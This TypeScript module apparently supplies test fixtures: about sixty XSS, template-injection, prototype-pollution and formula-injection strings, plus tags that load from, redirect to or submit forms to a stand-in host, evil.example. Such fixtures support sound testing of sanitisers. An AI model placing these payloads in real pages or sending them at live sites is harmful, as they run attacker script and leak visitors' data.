/**
 * Texts that become code wherever a page puts them together with its own markup, addresses or styles.
 *
 * @module
 */

/** What each of them does where it gets through; the page that shows it must be told when it does. */
const deed = 'window.wasHarmed=1'

const elements = [
  `<script>${deed}</script>`,
  `<img src=x onerror="${deed}">`,
  `<svg onload=${deed}>`,
  `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  `<svg><script>${deed}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${deed}>`,
  `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  `<iframe src="javascript:parent.${deed}"></iframe>`,
  `<object data="javascript:${deed}">`,
  `<embed src="javascript:${deed}">`,
  `<details open ontoggle=${deed}>`,
  `<input autofocus onfocus=${deed}>`,
  `<video><source onerror=${deed}></video>`,
  `<body onload=${deed}>`,
  `<marquee onstart=${deed}>`,
  `<style>@import 'https://evil.example/a.css'</style>`,
  `<link rel=stylesheet href=https://evil.example/b.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action=https://evil.example/><button>x</button></form>`,
  `<a href="javascript:${deed}">x</a>`,
  `<img src="https://evil.example/pixel.gif">`,
]

const breakingOut = [
  '"',
  "'",
  '`',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '\\"',
  '${',
  '{{',
]

const addresses = [
  `javascript:${deed}`,
  `JaVaScRiPt:${deed}`,
  `java\tscript:${deed}`,
  `\u0001javascript:${deed}`,
  `data:text/html,<script>parent.${deed}</script>`,
  `vbscript:${deed}`,
  '//evil.example/',
  'https://evil.example/\u202egpj.exe',
]

const expressions = [
  `\${${deed}}`,
  `{{constructor.constructor('${deed}')()}}`,
  `#{${deed}}`,
  `<%= ${deed} %>`,
  `';${deed};//`,
  `";${deed};//`,
  `url(https://evil.example/c.png)`,
  `expression(${deed})`,
  'constructor',
  '__proto__',
  'toString',
  '=cmd|"/c calc"!A1',
  '\u0000<script>',
  '\ud800<script>',
  '&lt;script&gt;',
  '&#x3c;script&#x3e;',
  '%3Cscript%3E',
  '\u2028\u2029\ufeff\u202e',
]

/** Some sixty of them. */
export const hostileTexts: readonly string[] = [
  ...elements,
  ...breakingOut.map(end => `${end}><img src=x onerror=${deed}>`),
  ...addresses,
  ...expressions,
]
